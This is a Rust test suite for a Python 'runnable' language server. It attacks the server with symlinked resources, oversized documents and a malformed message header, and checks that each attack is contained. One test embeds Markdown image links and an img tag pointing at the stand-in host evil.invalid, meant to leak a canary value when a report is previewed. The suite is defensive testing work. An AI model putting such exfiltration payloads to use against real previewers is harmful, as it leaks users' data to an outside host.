//! The hostile suite of the language server (issue 13, findings F6, F9, F11
//! and F14): each test drives the language server (served in process, with
//! its own transport guard and framing: tests/support) with the attack and
//! a canary, and asserts the attack is contained.
//!
//! The tests that run fragments need `python3`; without it they say so and
//! pass, except under `CI=true`, where a missing precondition fails them
//! (a green CI has to mean the attack was really tried).

mod support;

use serde_json::{json, Value};
use std::path::{Path, PathBuf};
use std::sync::Mutex;
use std::time::{Duration, Instant};
use support::{uri, Client};

const SHORT: Duration = Duration::from_secs(10);
const RUN: Duration = Duration::from_secs(120);

/// Tests that run the engine take turns (two cores).
static ENGINE: Mutex<()> = Mutex::new(());

fn engine_turn() -> std::sync::MutexGuard<'static, ()> {
    ENGINE.lock().unwrap_or_else(|e| e.into_inner())
}

/// Whether fragments can run here; under CI a missing interpreter fails.
fn can_run_fragments(test: &str) -> bool {
    if which::which("python3").is_ok() {
        return true;
    }
    assert!(std::env::var("CI").as_deref() != Ok("true"), "{test}: python3 is missing, and CI=true requires every hostile test to run");
    eprintln!("note: {test} skipped: python3 is missing");
    false
}

fn shared_cache() -> PathBuf {
    PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("runnable-lsp-cache")
}

fn range(l1: u32, c1: u32, l2: u32, c2: u32) -> Value {
    json!({"start": {"line": l1, "character": c1}, "end": {"line": l2, "character": c2}})
}

struct Session {
    client: Client,
    _dir: tempfile::TempDir,
}

impl Session {
    fn start(mut options: Value) -> Session {
        let dir = tempfile::tempdir().unwrap();
        let client = Client::start(dir.path());
        options["cacheDir"] = json!(shared_cache());
        // These attacks are on what a run writes; approval has its own tests.
        if options.get("runPolicy").is_none() {
            options["runPolicy"] = json!("always");
        }
        client.initialize(options, false);
        Session { client, _dir: dir }
    }

    fn root(&self) -> &Path {
        &self.client.root
    }

    fn open(&self, name: &str, text: &str) -> String {
        let path = self.root().join(name);
        std::fs::write(&path, text).unwrap();
        let u = uri(&path);
        self.client.open(&u, "python", text);
        u
    }

    /// Run the whole document (all its lines selected) and wait for its end.
    fn make_runnable(&self, u: &str) -> Value {
        let doc = self.client.doc(u);
        let lines = doc.text.lines().count() as u32;
        let all = range(0, 0, lines, 0);
        let r = self.client.request("workspace/executeCommand", json!({"command": "runnable.makeRunnable", "arguments": [{"uri": u, "version": doc.version, "range": all}]}));
        assert!(r.is_ok(), "{r:?}");
        self.client.wait_for("runnable/runFinished", RUN, |p| p["uri"] == u).expect("the run finishes")["params"].clone()
    }

    fn shown(&self, needle: &str) -> Option<String> {
        self.client
            .wait_for("window/showMessage", SHORT, |p| p["message"].as_str().is_some_and(|m| m.contains(needle)))
            .map(|m| m["params"]["message"].as_str().unwrap().to_string())
    }
}

/// A fragment that reads `inventory.txt`: the engine creates that resource.
const READS_A_FILE: &str = "with open(\"inventory.txt\") as handle:\n    entries = handle.read().splitlines()\nprint(entries[0])\n";

#[test]
fn f6_a_symlinked_resource_never_reaches_its_target() {
    if !can_run_fragments("f6_a_symlinked_resource_never_reaches_its_target") {
        return;
    }
    let _turn = engine_turn();
    let s = Session::start(json!({}));
    // The canary: a file outside the workspace, and a link to it where the
    // run's resource goes (a cloned repository could ship one).
    let outside = tempfile::tempdir().unwrap();
    let victim = outside.path().join("victim.txt");
    std::fs::write(&victim, "precious\n").unwrap();
    std::fs::create_dir(s.root().join(".runnable")).unwrap();
    let link = s.root().join(".runnable/inventory.txt");
    std::os::unix::fs::symlink(&victim, &link).unwrap();
    let u = s.open("inventory.py", READS_A_FILE);
    let done = s.make_runnable(&u);
    assert_ne!(done["status"], "failed", "the run must reach the point of writing files: {done}");
    let warning = s.shown("not written").expect("the refusal is shown to the user");
    assert!(warning.contains("inventory.txt") && warning.contains("symbolic link"), "{warning}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n", "the victim was written through the link");
    assert!(link.symlink_metadata().unwrap().file_type().is_symlink(), "the link itself was replaced");
    // No file operation went through the editor either.
    for edit in s.client.messages("workspace/applyEdit") {
        let ops = edit["params"]["edit"]["documentChanges"].as_array().cloned().unwrap_or_default();
        assert!(ops.iter().all(|o| o.get("kind").is_none()), "{ops:?}");
    }
    // The report says so too (and is not written through a link either).
    let report = s.client.request("workspace/executeCommand", json!({"command": "runnable.showReport", "arguments": [{"uri": u}]})).unwrap();
    let md = std::fs::read_to_string(support::path_of(report.as_str().unwrap())).unwrap();
    assert!(md.contains("## Not written") && md.contains("symbolic link"), "{md}");
    std::fs::remove_file(support::path_of(report.as_str().unwrap())).unwrap();
    let report_link = s.root().join(".runnable/inventory.py.report.md");
    std::os::unix::fs::symlink(&victim, &report_link).unwrap();
    let refused = s.client.request("workspace/executeCommand", json!({"command": "runnable.showReport", "arguments": [{"uri": u}]}));
    assert!(refused.unwrap_err()["message"].as_str().unwrap().contains("symbolic link"));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n", "the report was written through a link");
}

#[test]
fn f6_a_symlinked_resource_folder_is_refused() {
    if !can_run_fragments("f6_a_symlinked_resource_folder_is_refused") {
        return;
    }
    let _turn = engine_turn();
    let s = Session::start(json!({}));
    // `.runnable` itself points outside the workspace.
    let outside = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(outside.path(), s.root().join(".runnable")).unwrap();
    let u = s.open("inventory.py", READS_A_FILE);
    let done = s.make_runnable(&u);
    assert_ne!(done["status"], "failed", "{done}");
    let warning = s.shown("not written").expect("the refusal is shown to the user");
    assert!(warning.contains(".runnable is a symbolic link"), "{warning}");
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0, "a file was written outside the workspace");
}

#[test]
fn f6_with_resource_dir_dot_the_users_file_is_not_overwritten() {
    if !can_run_fragments("f6_with_resource_dir_dot_the_users_file_is_not_overwritten") {
        return;
    }
    let _turn = engine_turn();
    let s = Session::start(json!({"resourceDir": "."}));
    s.client.set_message_answer(Some("Keep mine"));
    let mine = s.root().join("inventory.txt");
    std::fs::write(&mine, "my own inventory\n").unwrap();
    let u = s.open("inventory.py", READS_A_FILE);
    let done = s.make_runnable(&u);
    assert_ne!(done["status"], "failed", "{done}");
    let ask = s.client.wait_for("window/showMessageRequest", SHORT, |p| p["message"].as_str().is_some_and(|m| m.contains("inventory.txt"))).expect("the user is asked");
    let titles: Vec<&str> = ask["params"]["actions"].as_array().unwrap().iter().map(|a| a["title"].as_str().unwrap()).collect();
    assert_eq!(titles, vec!["Overwrite", "Keep mine"]);
    assert_eq!(std::fs::read_to_string(&mine).unwrap(), "my own inventory\n", "the user's file was overwritten");
    let warning = s.shown("not written").expect("what was kept is shown");
    assert!(warning.contains("kept yours"), "{warning}");
}

/// What a Markdown previewer renders outside code spans and fenced blocks
/// (CommonMark: a span closes at a backtick run of its opening length; a
/// fence at a line of at least as many backticks).
fn outside_code(md: &str) -> String {
    let mut out = String::new();
    let mut lines = md.split('\n');
    while let Some(line) = lines.next() {
        let t = line.trim_start();
        let fence = t.len() - t.trim_start_matches('`').len();
        if fence >= 3 {
            for l in lines.by_ref() {
                let lt = l.trim();
                if lt.len() >= fence && lt.chars().all(|c| c == '`') {
                    break;
                }
            }
            continue;
        }
        let mut rest = line;
        while let Some(i) = rest.find('`') {
            out.push_str(&rest[..i]);
            let n = rest[i..].len() - rest[i..].trim_start_matches('`').len();
            let after = &rest[i + n..];
            let fence = "`".repeat(n);
            let close = after.match_indices(&fence).find(|(j, _)| !after[..*j].ends_with('`') && !after[j + n..].starts_with('`')).map(|(j, _)| j);
            match close {
                Some(j) => rest = &after[j + n..],
                None => {
                    out.push_str(&fence);
                    rest = after;
                }
            }
        }
        out.push_str(rest);
        out.push('\n');
    }
    out
}

#[test]
fn f9_a_markdown_image_in_an_exception_message_is_inert_in_the_report() {
    if !can_run_fragments("f9_a_markdown_image_in_an_exception_message_is_inert_in_the_report") {
        return;
    }
    let _turn = engine_turn();
    let s = Session::start(json!({}));
    // The message and the output carry data read in the sandbox inside an
    // image link, HTML, and backtick runs that try to close a code span.
    let text = "import os\nsecret = 'CANARY-' + os.path.basename(os.getcwd())\nprint('```\\n![x](http://evil.invalid/?out=' + secret + ')\\n```')\nraise ValueError('`` ` ![x](http://evil.invalid/?leak=' + secret + ') <img src=http://evil.invalid/>\\n\\n[y](http://evil.invalid/)')\n";
    let u = s.open("leak.py", text);
    let done = s.make_runnable(&u);
    assert_eq!(done["status"], "raised", "{done}");
    let report = s.client.request("workspace/executeCommand", json!({"command": "runnable.showReport", "arguments": [{"uri": u}]})).unwrap();
    let md = std::fs::read_to_string(support::path_of(report.as_str().unwrap())).unwrap();
    assert!(md.contains("?leak=CANARY-") && md.contains("?out=CANARY-"), "the message and the output are in the report: {md}");
    let rendered = outside_code(&md);
    for bad in ["![", "](", "<img", "http", "CANARY"] {
        assert!(!rendered.contains(bad), "{bad:?} outside code:\n{rendered}\n--- report ---\n{md}");
    }
}

/// Peak resident memory of a process, in MiB.
fn peak_rss_mib(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    Some(line.split_whitespace().nth(1)?.parse::<u64>().ok()? / 1024)
}

#[test]
fn f11_a_20_mb_document_is_skipped_and_the_server_stays_responsive() {
    let s = Session::start(json!({}));
    let small = s.open("small.py", "x = np.pi\n");
    s.client.wait_for("textDocument/publishDiagnostics", SHORT, |p| p["uri"] == small.as_str()).expect("the small document is analysed");
    let big_text = "value = compute(items)\n".repeat(20 * 1024 * 1024 / 23 + 1);
    let big = s.open("big.py", &big_text);
    // The next request is answered at once.
    let asked = Instant::now();
    let r = s.client.request("textDocument/codeAction", json!({"textDocument": {"uri": small}, "range": range(0, 0, 0, 0), "context": {"diagnostics": []}}));
    assert!(r.is_ok(), "{r:?}");
    assert!(asked.elapsed() < Duration::from_secs(5), "answered after {:?}", asked.elapsed());
    let log = s.client.wait_for("window/logMessage", SHORT, |p| p["message"].as_str().is_some_and(|m| m.contains("too large to analyse"))).expect("a log line");
    assert!(log["params"]["message"].as_str().unwrap().contains("big.py"), "{log}");
    let diags = s.client.wait_for("textDocument/publishDiagnostics", SHORT, |p| p["uri"] == big.as_str()).expect("diagnostics published");
    assert_eq!(diags["params"]["diagnostics"], json!([]), "no analysis of the big document");
    // No "Make this runnable" on it; an edit keeps it in sync, still skipped.
    let actions = s.client.request("textDocument/codeAction", json!({"textDocument": {"uri": big}, "range": range(0, 0, 0, 0), "context": {"diagnostics": []}})).unwrap();
    assert_eq!(actions, json!([]));
    let v = s.client.edit(&big, (0, 0), (0, 5), "other");
    let diags = s.client.wait_for("textDocument/publishDiagnostics", SHORT, |p| p["uri"] == big.as_str() && p["version"] == v).expect("diagnostics of the edit");
    assert_eq!(diags["params"]["diagnostics"], json!([]));
    let asked = Instant::now();
    let r = s.client.request("textDocument/inlayHint", json!({"textDocument": {"uri": big}, "range": range(0, 0, 1, 0)}));
    assert_eq!(r.unwrap(), json!([]));
    assert!(asked.elapsed() < Duration::from_secs(5), "answered after {:?}", asked.elapsed());
    // The canary: memory stays near the size of the text, not gigabytes
    // (served in process, the peak also counts the test's client and its
    // copies of the document: an upper bound of the server's).
    let peak = peak_rss_mib(s.client.pid()).expect("the server's memory");
    eprintln!("note: the server peaked at {peak} MiB with a 20 MB document");
    assert!(peak < 512, "the server peaked at {peak} MiB (3.2 GB before the limit)");
    // Shrunk below the limit, it is analysed again.
    let lines = big_text.len() / 23;
    let v = s.client.edit(&big, (1, 0), (lines as u32, 0), "");
    let diags = s.client.wait_for("textDocument/publishDiagnostics", SHORT, |p| p["uri"] == big.as_str() && p["version"] == v).expect("diagnostics after shrinking");
    let codes: Vec<&str> = diags["params"]["diagnostics"].as_array().unwrap().iter().filter_map(|d| d["code"].as_str()).collect();
    assert!(codes.contains(&"undefined-name"), "{diags}");
}

#[test]
fn f14_a_header_block_without_content_length_does_not_swallow_the_next_request() {
    let s = Session::start(json!({}));
    let u = s.open("a.py", "x = 1\n");
    // A header block with no Content-Length, then a body of unknown length
    // with no line break, then a valid request right after it.
    s.client.send_raw(b"Content-Type: application/vscode-jsonrpc; charset=utf-8\r\n\r\n{\"jsonrpc\":\"2.0\",\"id\":4242,\"method\":\"shutdown\"}");
    let sent = Instant::now();
    let id = s.client.request_async("textDocument/codeAction", json!({"textDocument": {"uri": u}, "range": range(0, 0, 0, 0), "context": {"diagnostics": []}}));
    let r = s.client.response(id, SHORT);
    assert!(r.is_ok(), "{r:?}");
    assert!(sent.elapsed() < Duration::from_secs(2), "answered after {:?}", sent.elapsed());
    let err = s.client.wait(SHORT, |m| (m["error"]["code"] == -32600 && m["id"].is_null()).then(|| m.clone())).expect("the bad block is answered with an error");
    assert!(err["error"]["message"].as_str().unwrap().contains("Content-Length"), "{err}");
    // The body of the bad block was not taken for a request.
    assert!(s.client.wait(Duration::from_millis(200), |m| (m["id"] == 4242).then_some(())).is_none());
    let again = s.client.request("textDocument/codeAction", json!({"textDocument": {"uri": u}, "range": range(0, 0, 0, 0), "context": {"diagnostics": []}}));
    assert!(again.is_ok(), "still serving: {again:?}");
}

#[test]
fn f6_the_users_file_is_replaced_only_when_they_answer_overwrite() {
    if !can_run_fragments("f6_the_users_file_is_replaced_only_when_they_answer_overwrite") {
        return;
    }
    let _turn = engine_turn();
    let s = Session::start(json!({"resourceDir": "."}));
    s.client.set_message_answer(Some("Overwrite"));
    let mine = s.root().join("inventory.txt");
    std::fs::write(&mine, "my own inventory\n").unwrap();
    let u = s.open("inventory.py", READS_A_FILE);
    let done = s.make_runnable(&u);
    assert_eq!(done["status"], "completed", "{done}");
    assert_eq!(s.client.messages("window/showMessageRequest").len(), 1, "asked once");
    let now = std::fs::read_to_string(&mine).unwrap();
    assert!(now != "my own inventory\n" && !now.is_empty(), "the run's file replaced it: {now:?}");
    assert!(!mine.symlink_metadata().unwrap().file_type().is_symlink());
}
